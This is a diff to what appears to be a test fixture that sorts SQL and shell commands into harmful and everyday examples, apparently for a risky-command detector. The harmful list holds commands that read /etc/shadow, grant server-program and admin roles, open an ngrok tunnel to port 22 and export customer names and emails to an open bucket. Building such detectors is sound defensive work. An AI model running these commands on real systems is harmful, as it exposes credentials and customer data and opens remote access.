@@ -206,6 +206,15 @@ HARMFUL = [
     {"kind": "sql", "text": "CREATE TABLE t(x text); COPY t FROM '/etc/shadow';"},
     {"kind": "sql", "text": "GRANT pg_read_server_files, pg_execute_server_program TO app;"},
     {"kind": "sql", "text": "GRANT ROLE ACCOUNTADMIN TO USER svc_reporting;"},
+    {
+        "kind": "sql",
+        "text": "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO contractor;",
+    },
+    {
+        "kind": "sql",
+        "text": "EXPORT DATA OPTIONS(uri='gs://open-bucket-example/pii/*.csv', format='CSV') AS "
+        "SELECT name, email FROM `p.crm.customers`;",
+    },
     # a tunnel to a remote-access port
     {"kind": "shell", "text": "ngrok tcp 22"},
     # CI that shows its secrets
@@ -288,6 +297,30 @@ EVERYDAY = [
         "text": "SELECT * FROM dblink('dbname=app_dev host=localhost', 'SELECT 1') AS t(x int);",
     },
     {"kind": "sql", "text": "GRANT pg_monitor TO datadog;"},
+    # everyday data work (blind61): a batch a CTE chose, a default grant of SELECT, a database
+    # created with its owner, an export to the team's plainly named bucket, a scratch dataset
+    {
+        "kind": "sql",
+        "text": "WITH batch AS (SELECT id FROM documents WHERE word_count IS NULL LIMIT 2000) "
+        "UPDATE documents d SET word_count = 0 FROM batch b WHERE d.id = b.id;",
+    },
+    {
+        "kind": "sql",
+        "text": "ALTER DEFAULT PRIVILEGES IN SCHEMA marts GRANT SELECT ON TABLES TO analytics_ro;",
+    },
+    {
+        "kind": "shell",
+        "text": "psql -h localhost -U postgres -c 'CREATE DATABASE app_test OWNER app;'",
+    },
+    {
+        "kind": "sql",
+        "text": "UNLOAD ('SELECT * FROM analytics.fct_sessions') "
+        "TO 's3://acme-dw-unload/fct_sessions/' IAM_ROLE 'arn:aws:iam::1:role/u' FORMAT PARQUET;",
+    },
+    {
+        "kind": "sql",
+        "text": "CREATE OR REPLACE TABLE `acme-analytics.scratch_mlee.top_skus` AS SELECT 1 AS x;",
+    },
     {
         "kind": "sql",
         "text": "SELECT * FROM OPENROWSET(BULK 'D:\\imports\\prices.csv', SINGLE_CLOB) AS x;",
